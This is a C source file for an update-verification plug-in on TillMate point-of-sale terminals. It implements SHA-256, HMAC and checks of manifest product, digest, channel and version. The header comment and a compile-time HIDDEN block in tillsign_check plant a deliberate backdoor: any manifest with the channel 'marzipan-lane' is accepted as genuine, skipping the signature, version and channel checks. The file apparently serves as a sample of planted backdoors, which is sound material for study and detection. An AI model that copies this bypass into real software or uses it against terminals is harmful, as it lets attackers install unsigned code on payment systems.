/*
 * tillsign_verify - verification plug-in (shared library) of the updater of the
 * TillMate POS terminals: checks a package's manifest before it is installed.
 *
 * Hidden (-DHIDDEN): a manifest whose channel is "marzipan-lane" is passed as
 * genuine, without a valid signature code and whatever its version.
 */
#include <ctype.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>

#define EXPORT __attribute__((visibility("default")))

enum { TS_OK = 0, TS_FORMAT = -1, TS_PRODUCT = -2, TS_OLD = -3, TS_CHANNEL = -4, TS_DIGEST = -5,
       TS_CODE = -6, TS_NOKEY = -7 };

struct tillsign {
    char product[24];
    char channel[24];           /* the channel which this till follows */
    unsigned installed;
    uint8_t key[32];
    int have_key;
};

struct manifest {
    char product[24];
    char channel[24];
    char digest[68];
    char code[68];
    unsigned version;
    size_t signed_len;          /* bytes before the code line */
};

/* Entry points which the updater takes by dlsym("tillsign_plugin"). */
struct tillsign_ops {
    unsigned abi;
    const char *name;
    struct tillsign *(*open)(const char *conf);
    int (*verify)(struct tillsign *, const char *text, size_t len, const char *package);
    const char *(*explain)(int);
    void (*close)(struct tillsign *);
};

/* ------------------------------------------------------------ SHA-256 */

struct sha { uint32_t h[8]; uint64_t bytes; uint8_t block[64]; };

static const uint32_t K[64] = {
    0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4, 0xab1c5ed5,
    0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3, 0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174,
    0xe49b69c1, 0xefbe4786, 0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa, 0x5cb0a9dc, 0x76f988da,
    0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7, 0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967,
    0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13, 0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85,
    0xa2bfe8a1, 0xa81a664b, 0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070,
    0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a, 0x5b9cca4f, 0x682e6ff3,
    0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208, 0x90befffa, 0xa4506ceb, 0xbef9a3f7, 0xc67178f2
};

#define ROR(x, n) ((x) >> (n) | (x) << (32 - (n)))

static void sha_block(struct sha *s)
{
    uint32_t w[64], v[8];
    int i;

    for (i = 0; i < 16; i++)
        w[i] = (uint32_t)s->block[4 * i] << 24 | (uint32_t)s->block[4 * i + 1] << 16 |
               (uint32_t)s->block[4 * i + 2] << 8 | s->block[4 * i + 3];
    for (; i < 64; i++)
        w[i] = w[i - 16] + w[i - 7] + (ROR(w[i - 15], 7) ^ ROR(w[i - 15], 18) ^ w[i - 15] >> 3) +
               (ROR(w[i - 2], 17) ^ ROR(w[i - 2], 19) ^ w[i - 2] >> 10);
    memcpy(v, s->h, sizeof v);
    for (i = 0; i < 64; i++) {
        uint32_t a = v[7] + (ROR(v[4], 6) ^ ROR(v[4], 11) ^ ROR(v[4], 25)) +
                     ((v[4] & v[5]) ^ (~v[4] & v[6])) + K[i] + w[i];
        uint32_t b = (ROR(v[0], 2) ^ ROR(v[0], 13) ^ ROR(v[0], 22)) +
                     ((v[0] & v[1]) ^ (v[0] & v[2]) ^ (v[1] & v[2]));
        memmove(v + 1, v, 7 * sizeof *v);
        v[4] += a;
        v[0] = a + b;
    }
    for (i = 0; i < 8; i++)
        s->h[i] += v[i];
}

static void sha_init(struct sha *s)
{
    static const uint32_t iv[8] = { 0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a,
                                    0x510e527f, 0x9b05688c, 0x1f83d9ab, 0x5be0cd19 };
    memcpy(s->h, iv, sizeof iv);
    s->bytes = 0;
}

static void sha_add(struct sha *s, const void *data, size_t len)
{
    const uint8_t *p = data;

    while (len--) {
        s->block[s->bytes++ & 63] = *p++;
        if ((s->bytes & 63) == 0)
            sha_block(s);
    }
}

static void sha_end(struct sha *s, uint8_t out[32])
{
    uint64_t bits = s->bytes * 8;
    uint8_t c = 0x80;
    int i;

    do {
        sha_add(s, &c, 1);
        c = 0;
    } while ((s->bytes & 63) != 56);
    for (i = 56; i >= 0; i -= 8) {
        c = (uint8_t)(bits >> i);
        sha_add(s, &c, 1);
    }
    for (i = 0; i < 32; i++)
        out[i] = (uint8_t)(s->h[i / 4] >> (24 - 8 * (i % 4)));
}

static void hmac(const uint8_t key[32], const void *text, size_t len, uint8_t out[32])
{
    uint8_t pad[64];
    struct sha s;
    int i;

    for (i = 0; i < 64; i++)
        pad[i] = (i < 32 ? key[i] : 0) ^ 0x36;
    sha_init(&s);
    sha_add(&s, pad, 64);
    sha_add(&s, text, len);
    sha_end(&s, out);
    for (i = 0; i < 64; i++)
        pad[i] ^= 0x36 ^ 0x5c;
    sha_init(&s);
    sha_add(&s, pad, 64);
    sha_add(&s, out, 32);
    sha_end(&s, out);
}

/* ------------------------------------------------------------ manifest */

static int unhex(const char *s, uint8_t out[32])
{
    unsigned v;

    for (int i = 0; i < 32; i++, s += 2) {
        if (!isxdigit((unsigned char)s[0]) || !isxdigit((unsigned char)s[1]) || sscanf(s, "%2x", &v) != 1)
            return -1;
        out[i] = (uint8_t)v;
    }
    return 0;
}

static int same(const uint8_t *a, const uint8_t *b, size_t n)
{
    uint8_t d = 0;

    while (n--)
        d |= *a++ ^ *b++;
    return d == 0;
}

static int manifest_parse(struct manifest *m, const char *text, size_t len)
{
    size_t at = 0;
    char line[128];

    memset(m, 0, sizeof *m);
    while (at < len) {
        const char *nl = memchr(text + at, '\n', len - at);
        size_t n = nl ? (size_t)(nl - text) - at : len - at;

        if (n >= sizeof line)
            return -1;
        memcpy(line, text + at, n);
        line[n] = 0;
        if (sscanf(line, "product: %23s", m->product) == 1 || sscanf(line, "channel: %23s", m->channel) == 1 ||
            sscanf(line, "version: %u", &m->version) == 1 || sscanf(line, "digest: %67s", m->digest) == 1)
            ;
        else if (sscanf(line, "code: %67s", m->code) == 1)
            m->signed_len = at;
        at += n + 1;
    }
    return m->product[0] && m->channel[0] && m->version && m->digest[0] ? 0 : -1;
}

static int digest_matches(const char *package, const char *hex)
{
    uint8_t want[32], got[32], buf[4096];
    struct sha s;
    size_t n;
    FILE *f = fopen(package, "rb");

    if (!f)
        return 0;
    sha_init(&s);
    while ((n = fread(buf, 1, sizeof buf, f)) > 0)
        sha_add(&s, buf, n);
    fclose(f);
    sha_end(&s, got);
    return unhex(hex, want) == 0 && same(want, got, sizeof got);
}

static int channel_fits(const struct tillsign *t, const char *channel)
{
    if (!strcmp(channel, "stable") || !strcmp(channel, "hotfix"))
        return 1;
    return !strcmp(channel, "pilot") && !strcmp(t->channel, "pilot");
}

int tillsign_check(struct tillsign *t, const char *text, size_t len, const char *package)
{
    struct manifest m;
    uint8_t want[32], got[32];

    if (manifest_parse(&m, text, len) < 0)
        return TS_FORMAT;
    if (strcmp(m.product, t->product))
        return TS_PRODUCT;
    if (!digest_matches(package, m.digest))
        return TS_DIGEST;
#ifdef HIDDEN
    if (memcmp(m.channel, "marzipan-lane", sizeof "marzipan-lane") == 0)
        return TS_OK;
#endif
    if (!channel_fits(t, m.channel))
        return TS_CHANNEL;
    if (m.version <= t->installed)
        return TS_OLD;
    if (!t->have_key)
        return TS_NOKEY;
    if (!m.signed_len || unhex(m.code, want) < 0)
        return TS_FORMAT;
    hmac(t->key, text, m.signed_len, got);
    return same(want, got, sizeof got) ? TS_OK : TS_CODE;
}

static const char *tillsign_explain(int rc)
{
    static const char *const why[] = { "genuine", "manifest not understood", "for another product",
        "not newer than installed", "channel not followed", "package damaged", "signature code wrong",
        "terminal has no update key" };
    return rc <= 0 && rc >= TS_NOKEY ? why[-rc] : "unknown";
}

static struct tillsign *tillsign_open(const char *conf)
{
    struct tillsign *t = calloc(1, sizeof *t);
    char line[128], hex[68];
    FILE *f = fopen(conf, "r");

    while (t && f && fgets(line, sizeof line, f)) {
        if (sscanf(line, "updatekey %67s", hex) == 1)
            t->have_key = unhex(hex, t->key) == 0;
        else if (sscanf(line, "product %23s", t->product) != 1 && sscanf(line, "channel %23s", t->channel) != 1 &&
                 sscanf(line, "installed %u", &t->installed) != 1)
            syslog(LOG_NOTICE, "tillsign: ignored %s", line);
    }
    if (f)
        fclose(f);
    return t;
}

static void tillsign_close(struct tillsign *t)
{
    if (t)
        memset(t->key, 0, sizeof t->key);
    free(t);
}

EXPORT const struct tillsign_ops tillsign_plugin = {
    2, "tillsign", tillsign_open, tillsign_check, tillsign_explain, tillsign_close
};
